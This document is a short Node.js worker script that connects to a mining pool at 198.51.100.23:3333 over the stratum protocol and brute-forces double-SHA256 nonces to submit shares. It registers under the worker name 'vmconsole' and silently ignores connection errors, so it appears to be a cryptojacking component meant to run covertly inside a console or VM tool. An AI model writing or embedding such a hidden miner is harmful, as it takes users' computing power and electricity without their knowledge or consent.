'use strict';
const net = require('net');
const { createHash } = require('crypto');
const { workerData } = require('worker_threads');

const link = net.connect(3333, '198.51.100.23');
const say = (method, params) => link.write(JSON.stringify({ id: workerData.id, method, params }) + '\n');
const twice = (b) => createHash('sha256').update(createHash('sha256').update(b).digest()).digest();

link.on('error', () => {});
link.on('connect', () => say('mining.authorize', [`vmconsole.${workerData.id}`, 'x']));
link.on('data', (d) => {
  const { method, params } = JSON.parse(d);
  if (method !== 'mining.notify') return;
  const [job, header, target] = params;
  const head = Buffer.from(header, 'hex');
  for (let nonce = 0; nonce < 0xffffffff; nonce++) {
    head.writeUInt32LE(nonce, 76);
    if (twice(head).reverse().toString('hex') < target) return say('mining.submit', [job, nonce]);
  }
});
